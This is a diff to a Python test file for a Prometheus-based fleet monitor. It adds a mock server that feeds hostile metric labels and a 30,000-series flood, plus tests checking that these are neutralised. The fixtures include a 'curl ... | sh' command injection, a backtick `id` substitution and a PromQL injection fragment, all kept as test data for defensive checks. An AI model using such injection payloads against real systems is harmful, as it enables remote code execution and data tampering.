@@ -46,16 +46,33 @@ node_network_receive_bytes_total{{device="enp1s0f0np0"}} {now}
 node_network_receive_errs_total{{device="enp1s0f0np0"}} 0
 node_network_receive_drop_total{{device="enp1s0f0np0"}} 0
 """
+HOSTILE_HOST = r"""
+gb10_drift_differences{of="titan; curl -s http://192.0.2.66/x | sh #",severity="error"} 1
+gb10_drift_differences{of="elsewhere",severity="error"} 1
+gb10_service_serving{service="chat",rank="1\" or vector(0) or x{a=\""} 0
+gb10_service_serving{service="another",rank="0"} 0
+gb10_fabric_link{device="`id`"} 0
+vllm:num_requests_waiting{service="chat"} 9
+"""
+HOSTILE_ENGINE = r"""
+gb10_service_serving{service="chat",rank="0"} 0
+node_memory_MemAvailable_bytes 1
+ALERTS{alertname="Gb10Drift",alertstate="firing"} 1
+"""
 
 
 class Shown(BaseHTTPRequestHandler):
-    """A host at /metrics, and below /v1 a service that asks for its key."""
+    """A host at /metrics, below /v1 a service that asks for its key, and one whose metrics have no end."""
 
     def do_GET(self) -> None:
         if self.path == "/v1/metrics":
             known = self.headers.get("Authorization") == f"Bearer {KEY}"
             # the list has names alone; counters go on
             text = re.sub(r"^(?!#)(\S.*)$", rf"\1 {time.time():.0f}", SHOWN, flags=re.MULTILINE) if known else ""
+            text += HOSTILE_ENGINE if known else ""
+        elif self.path == "/flood":
+            known = True
+            text = "".join(f'flood{{at="{number}"}} 1\n' for number in range(30_000))
         else:
             known = True
             night = {"at": "2026-11-23T09:00:00Z", "hosts": {"titan": {"error": 2, "warning": 1}}}
@@ -68,7 +85,7 @@ class Shown(BaseHTTPRequestHandler):
                 textfile.Sample("gb10_fabric_link", 1, {"device": "enp1s0f0np0"}),
                 textfile.Sample("gb10_disk_free_bytes", 9e11, {"path": "/var/lib/gb10-fleet"}),
             ]
-            text = textfile.text(ours) + OF_THE_EXPORTER.format(now=time.time())
+            text = textfile.text(ours) + OF_THE_EXPORTER.format(now=time.time()) + HOSTILE_HOST
         self.send_response(200 if known else 401)
         self.send_header("Content-Type", "text/plain; version=0.0.4")
         self.end_headers()
@@ -85,7 +102,11 @@ def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     shown = ThreadingHTTPServer(("127.0.0.1", 0), Shown)
     threading.Thread(target=shown.serve_forever, daemon=True).start()
     target = f"127.0.0.1:{shown.server_address[1]}"
-    config = prometheus.config("home", {"titan": target}, [Endpoint("chat", "titan", target, "/v1/metrics", key="k")])
+    endpoints = [
+        Endpoint("chat", "titan", target, "/v1/metrics", key="k"),
+        Endpoint("flood", "titan", target, "/flood"),
+    ]
+    config = prometheus.config("home", {"titan": target}, endpoints)
     (folder / "key").write_text(f"{KEY}\n")
     text = json.dumps(config).replace('"15s"', '"1s"').replace(prometheus.RULES, "rules.yml")
     text = text.replace(prometheus.credential("gb10-prometheus.service", "key-chat"), str(folder / "key"))
@@ -143,6 +164,26 @@ def without_series(url: str, exprs: list[str]) -> list[str]:
 def test_every_query_returns_series(url: str) -> None:
     exprs = [*dashboards.queries(RECORDED), *console.queries(RECORDED), *recordings([SERIES]).values()]
     assert without_series(url, exprs) == []
+
+
+def test_what_a_target_says_becomes_no_command_and_no_other_hosts_series(url: str) -> None:
+    """Labels reach commands that a person types, the page's queries, and other hosts' rows (security 10)."""
+    assert without_series(url, ["gb10_drift_differences", 'up{service="chat"} == 1']) == []
+    for hostile in (
+        'gb10_drift_differences{of=~".*curl.*|elsewhere"}',
+        'gb10_service_serving{rank=~".*vector.*"}',
+        'gb10_service_serving{service="another"}',
+        'gb10_fabric_link{device=~".*`.*"}',
+        '{job="service",__name__=~"gb10_.*|node_.*|ALERTS"}',
+        '{job="host",__name__=~"vllm:.*"}',
+    ):
+        assert json.loads(got(f"{url}/api/v1/query?query={quote(hostile)}"))["data"]["result"] == [], hostile
+
+
+def test_an_answer_without_end_is_not_taken(url: str) -> None:
+    """250,000 series of one engine were 0.9 GiB (security 11)."""
+    assert without_series(url, ['up{service="flood"} == 0']) == []
+    assert json.loads(got(f"{url}/api/v1/query?query=flood"))["data"]["result"] == []
 
 
 def test_every_condition_of_an_alert_has_series_to_judge(url: str) -> None:
